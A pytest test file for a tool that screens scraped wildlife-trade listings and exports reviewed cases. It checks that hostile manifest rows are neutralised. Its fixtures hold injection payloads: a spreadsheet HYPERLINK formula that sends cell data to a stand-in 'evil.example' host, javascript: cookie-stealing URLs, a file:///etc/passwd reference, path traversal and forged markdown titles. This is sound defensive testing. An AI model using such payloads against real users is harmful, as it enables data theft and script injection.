"""Manifests of scraped listings as screening sources: parsed with their hostile rows, screened with the shipped model,
reviewed with their listing beside each photo, and exported with it (cases CSV, evidence pack)."""

from __future__ import annotations

import csv
import io
import json
import os
import zipfile
from pathlib import Path

import pytest

from conftest import write_image
from wildvision.screening import decisions, listings, review
from wildvision.screening.export import export_csv, export_evidence_pack
from wildvision.screening.job import screen
from wildvision.screening.sources import NOT_A_PHOTO_PATH, OUTSIDE_ROOTS, check_sources, iter_sources, read_file_list
from wildvision.screening.training_export import export_training_folder

HEADER = ["image_path", "url", "post_id", "title", "date", "seller", "platform", "price"]
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORGED_TITLE = "Baby macaque\nCases: 0 photos people decided\n# **sold**"


def write_csv(path: Path, rows: list[list[str]], header: list[str] = HEADER) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


@pytest.fixture(scope="module")
def market(tmp_path_factory) -> Path:
    """A scrape: photos/ of generated images, a CSV manifest of two listings (3 photos and 1) and a JSONL one."""
    folder = tmp_path_factory.mktemp("scrape")
    for index in range(6):
        write_image(folder / "photos" / f"p{index}.png", seed=100 + index)
    write_csv(
        folder / "listings.csv",
        [
            ["photos/p0.png", "https://market.example/item/12345", "12345", FORMULA_TITLE, "2026-11-02", "@seller", "marketX", "150"],
            ["photos/p1.png", "https://market.example/item/12345", "12345", FORMULA_TITLE, "2026-11-02", "@seller", "marketX", "150"],
            ["photos/p2.png", "https://market.example/item/12345", "12345", FORMULA_TITLE, "2026-11-02", "@seller", "marketX", "150"],
            ["photos/p3.png", "javascript:alert(document.cookie)", "777", FORGED_TITLE, "3 Nov 2026", "bob", "marketY", "20"],
            ["photos/missing.png", "https://market.example/item/9", "9", "gone", "2026-11-05", "carl", "marketX", ""],
        ],
    )
    with open(folder / "posts.jsonl", "w", encoding="utf-8") as handle:
        handle.write(
            json.dumps(
                {
                    "image": str(folder / "photos" / "p4.png"),
                    "listing_url": "http://forum.example/t/5",
                    "id": "t5",
                    "text": "parrot",
                    "date": "yesterday",
                    "account": "dan",
                    "platform": "forumZ",
                }
            )
            + "\n"
        )
        handle.write("{not json\n")
        handle.write(
            json.dumps(
                {"file": "photos/p5.png", "url": "https://forum.example/t/6", "post_id": "t6", "capture_date": "2026-10-30T08:15:00+01:00", "site": "forumZ"}
            )
            + "\n"
        )
    return folder


@pytest.fixture(scope="module")
def job(market, tmp_path_factory) -> Path:
    return screen([str(market / "listings.csv"), str(market / "posts.jsonl")], screens_dir=tmp_path_factory.mktemp("screens"), name="listings")


def rows_of(path: Path) -> list:
    return list(iter_sources([str(path)], path.parent / "unpacked", []))


def test_hostile_manifest_rows_each_give_a_row_with_its_reason(tmp_path):
    write_image(tmp_path / "a.png", seed=1)
    huge = "x" * (3 * 2**20)  # megabytes of text in one cell
    manifest = tmp_path / "hostile.csv"
    manifest.write_text(
        "image,url,title,date,seller,notes\n"
        f"a.png,javascript:alert(1),{huge},not a date,-rm,kept\n"
        "a.png,file:///etc/passwd,+cmd,2026-01-02,@x\n"  # a cell short: malformed
        ",https://ok.example/1,no image,2026-01-02,s,n\n"
        "notes.txt,https://ok.example/2,t,2026-01-02,s,n\n"
        "../../elsewhere/b.png,https://ok.example/3,t,2026-01-02,s,n\n",
        encoding="utf-8",
    )
    rows = rows_of(manifest)
    assert len(rows) == 5
    first = rows[0]
    assert first.file == str((tmp_path / "a.png").resolve()) and first.error is None
    assert first.listing.listing_url == "" and any("javascript:alert(1)" in note and "never as a link" in note for note in first.listing.notes)
    assert len(first.listing.title) == listings.MAX_CELL_CHARS and any("title cut to 4,000 characters" in note for note in first.listing.notes)
    assert first.listing.listing_date == "not a date" and any("date 'not a date' not understood" in note for note in first.listing.notes)
    assert first.listing.seller == "-rm" and first.listing.extra == {"notes": "kept"}  # formula-like cells kept as data
    assert rows[1].file is None and "malformed row: 5 cells where the header has 6" in rows[1].error
    assert rows[2].file is None and rows[2].error == "no image path in this row" and rows[2].listing.listing_url == "https://ok.example/1"
    assert rows[3].error == NOT_A_PHOTO_PATH
    outside = list(iter_sources([str(manifest)], tmp_path / "unpacked", [], within=(str(tmp_path),)))[4]
    assert outside.file is None and outside.error == OUTSIDE_ROOTS and outside.listing.listing_url == "https://ok.example/3"


def test_malformed_json_lines_and_non_objects_are_rows_with_reasons(tmp_path):
    write_image(tmp_path / "a.png", seed=2)
    manifest = tmp_path / "posts.jsonl"
    manifest.write_text('{"path": "a.png", "url": "https://x.example/1", "date": "2026-02-03 10:00"}\n{broken\n[1, 2]\n', encoding="utf-8")
    rows = rows_of(manifest)
    assert rows[0].error is None and rows[0].listing.listing_date == "2026-02-03T10:00:00"
    assert rows[1].error.startswith("a malformed JSON line") and rows[1].path == "posts.jsonl line 2"
    assert rows[2].error == "a JSON line that is not an object of named fields; not read"


def test_a_spreadsheets_csv_with_a_byte_order_mark_and_other_header_spellings_is_read(tmp_path):
    write_image(tmp_path / "a.png", seed=4)
    (tmp_path / "excel.csv").write_text(
        "\ufeffImage,Link,Post,Caption,Posted_At,Account,Site\na.png,https://x.example/p/1,p1,hi,02/11/2026 13:45,amy,shopQ\n", encoding="utf-8"
    )
    (row,) = rows_of(tmp_path / "excel.csv")
    assert row.error is None and row.file == str((tmp_path / "a.png").resolve())
    listing = row.listing
    assert (listing.listing_url, listing.listing_id, listing.title, listing.seller, listing.platform) == ("https://x.example/p/1", "p1", "hi", "amy", "shopQ")
    assert listing.listing_date == "2026-02-11T13:45:00" and not listing.notes  # pandas reads month first, as it documents


def test_a_manifest_is_told_from_a_list_file_and_refused_in_words_when_it_cannot_be_one(tmp_path):
    write_image(tmp_path / "a.png", seed=3)
    (tmp_path / "list.txt").write_text("a.png\n", encoding="utf-8")
    (listed,) = rows_of(tmp_path / "list.txt")
    assert listed.listing is None and listed.file == str((tmp_path / "a.png").resolve())
    write_csv(tmp_path / "nameless.csv", [["https://x.example"]], header=["url"])
    with pytest.raises(ValueError, match="nameless.csv has no image column in its header row: a manifest names each photo in a column called image"):
        check_sources([str(tmp_path / "nameless.csv")])
    big = tmp_path / "big.jsonl"
    with open(big, "wb") as handle:
        handle.truncate(listings.MAX_MANIFEST_BYTES + 1)
    with pytest.raises(ValueError, match=r"big.jsonl is 50.0 MB: a manifest of listings may be at most 50 MB"):
        check_sources([str(big)])


def test_the_job_keeps_each_rows_listing_beside_its_file_list(job, market):
    listed = list(read_file_list(job))
    saved = listings.read_listings(job)
    assert len(listed) == 8 and sorted(saved) == [0, 1, 2, 3, 4, 5, 7]  # the malformed JSON line (row 6) has no listing
    assert listed[4].path == "photos/missing.png" and saved[4].listing_id == "9"
    assert listed[6].error.startswith("a malformed JSON line")
    assert saved[5].listing_date == "yesterday" and saved[5].seller == "dan" and saved[5].title == "parrot"
    assert saved[7].listing_date == "2026-10-30T08:15:00+01:00" and saved[7].platform == "forumZ"
    assert not [name for name in os.listdir(job) if name.endswith(".tmp")]


def test_review_items_carry_the_listing_and_group_its_photos(job):
    items = review.read_items(job)
    first = items.iloc[0]
    assert (first["listing_url"], first["listing_id"], first["title"], first["listing_date"], first["seller"], first["platform"]) == (
        "https://market.example/item/12345",
        "12345",
        FORMULA_TITLE,
        "2026-11-02",
        "@seller",
        "marketX",
    )
    assert first["listing_photos"] == 3
    assert listings.listing_paths(items, "photos/p1.png") == ["photos/p0.png", "photos/p1.png", "photos/p2.png"]
    items = review.with_decisions(items, {})
    one_listing = review.queue(items, 0.5, review.Filters(bands=(), decided="any", listing=first["listing_key"]))
    assert sorted(one_listing["path"]) == ["photos/p0.png", "photos/p1.png", "photos/p2.png"]
    everything = review.Filters(bands=(), decided="any")
    forum = review.queue(items, 0.5, review.Filters(bands=(), decided="any", platform="forumZ"))
    assert len(forum) == 2 and set(forum["platform"]) == {"forumZ"}
    november = review.queue(items, 0.5, review.Filters(bands=(), decided="any", date_from="2026-11-01", date_to="2026-11-03"))
    assert set(november["listing_id"]) == {"12345", "777"}  # "yesterday" was not understood: outside every range
    assert len(review.queue(items, 0.5, everything)) == 8


def test_a_job_stopped_part_way_keeps_each_scored_photos_listing(market, tmp_path):
    from wildvision import runs
    from wildvision.predict import load_model
    from wildvision.screening.job import CANCELLED_MESSAGE, create_screen, finish_screen

    loaded = load_model("default", device="cpu")
    partial = create_screen([str(market / "listings.csv"), str(market / "posts.jsonl")], "default", loaded, 2, tmp_path, "partial", part_batches=1)
    finish_screen(partial, loaded, shard=(1, 2))  # parts of 2 files: rows 2-3 and 6-7 scored
    runs.write_status(partial, "cancelled", message=CANCELLED_MESSAGE)
    items = review.read_items(partial)
    assert list(zip(items["path"], items["listing_id"])) == [
        ("photos/p2.png", "12345"),
        ("photos/p3.png", "777"),
        ("posts.jsonl line 2", ""),
        ("photos/p5.png", "t6"),
    ]
    assert items.loc[items["path"] == "photos/p2.png", "listing_photos"].item() == 1  # the listing's photos scored so far


def test_decided_listings_go_into_the_cases_csv_and_the_evidence_pack(job, tmp_path):
    screen_job = review.read_job(job)
    items = review.read_items(job)
    for path in ("photos/p0.png", "photos/p3.png"):
        review.decide_photo(screen_job, items, path, screen_job.positive, "ana")

    export_csv(job, tmp_path / "cases.csv")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "cases.csv").read_text(encoding="utf-8"))))
    assert [row["listing_id"] for row in rows] == ["12345", "777"]
    assert rows[0]["listing_url"] == "https://market.example/item/12345" and rows[0]["listing_date"] == "2026-11-02"
    assert rows[0]["title"] == "'" + FORMULA_TITLE and rows[0]["seller"] == "'@seller"  # neutralised, not run
    assert rows[1]["listing_url"] == "" and "javascript:alert(document.cookie)" in rows[1]["listing_notes"]

    export_evidence_pack(job, tmp_path / "pack.zip", saliency=False)
    with zipfile.ZipFile(tmp_path / "pack.zip") as archive:
        packed = list(csv.DictReader(io.StringIO(archive.read("cases.csv").decode())))
        readme = archive.read("README.txt").decode()
    assert packed[0]["listing_url"] == "https://market.example/item/12345" and packed[0]["title"].startswith("'=HYPERLINK")
    assert packed[0]["image"].startswith("images/")
    assert "listing 12345 on marketX, dated 2026-11-02, seller @seller" in readme and "URL: https://market.example/item/12345" in readme
    assert "URL: (none that is an http(s) address)" in readme and "javascript:" not in readme
    assert "Baby macaque\\nCases: 0 photos" in readme  # the title's line breaks shown, not followed
    assert not any(line.startswith(("Cases: 0", "# **sold**")) for line in readme.splitlines())
    assert decisions.current(job)["photos/p0.png"].label == screen_job.positive

    for path in ("photos/p2.png", "photos/p5.png"):
        review.decide_photo(screen_job, items, path, screen_job.class_names[0], "ana")
    export_training_folder(job, tmp_path / "training", test_sets={})
    with open(tmp_path / "training" / "manifest.csv", encoding="utf-8") as handle:
        manifest = {row["listing_id"]: (row["listing_url"], row["listing_date"], row["platform"]) for row in csv.DictReader(handle)}
    assert manifest == {  # p0 and p2 are both of listing 12345
        "12345": ("https://market.example/item/12345", "2026-11-02", "marketX"),
        "777": ("", "2026-11-03", "marketY"),
        "t6": ("https://forum.example/t/6", "2026-10-30T08:15:00+01:00", "forumZ"),
    }


def test_the_review_page_shows_listing_text_as_plain_text_and_links_only_https(market, tmp_path, monkeypatch, runs_dir):
    from streamlit.testing.v1 import AppTest

    from app_pages.widgets import md

    screens_dir = tmp_path / "screens"
    monkeypatch.setenv("WILDVISION_SCREENS_DIR", str(screens_dir))
    title = "**Cheap** [click](javascript:alert(1)) :red[now]"
    manifest = write_csv(
        tmp_path / "page.csv",
        [
            [str(market / "photos" / "p0.png"), "https://market.example/item/1", "1", title, "2026-11-02", "eve", "marketX", ""],
            [str(market / "photos" / "p1.png"), "https://market.example/item/1", "1", title, "2026-11-02", "eve", "marketX", ""],
            [str(market / "photos" / "p3.png"), "javascript:alert(1)", "2", "plain", "2026-11-04", "fay", "marketY", ""],
        ],
    )
    screen([str(manifest)], screens_dir=screens_dir, name="page")
    at = AppTest.from_file("../app_pages/review.py", default_timeout=120).run()
    at.pills[0].set_value(list(review.BANDS)).run()
    assert not at.exception, at.exception
    shown = [markdown.value for markdown in at.markdown]
    assert shown.count(md(title)) == 2 and title not in shown  # escaped: no bold, no link, no colour
    links = [element.proto.url for element in at.get("link_button")]
    assert links == ["https://market.example/item/1"] * 2  # the javascript: URL is no link
    (together,) = {button.label for button in at.button if button.label.endswith("photos of listing 1")}
    assert together == "2 photos of listing 1"
    next(button for button in at.button if button.label == together).click().run()
    assert any("Showing the 2 photos of listing 1" in info.value for info in at.info)
    next(button for button in at.button if button.label == "Back to all listings").click().run()
    at.sidebar.selectbox[0].set_value("marketY").run()
    assert not at.exception and [element.proto.url for element in at.get("link_button")] == []
    assert any(markdown.value == "plain" for markdown in at.markdown)
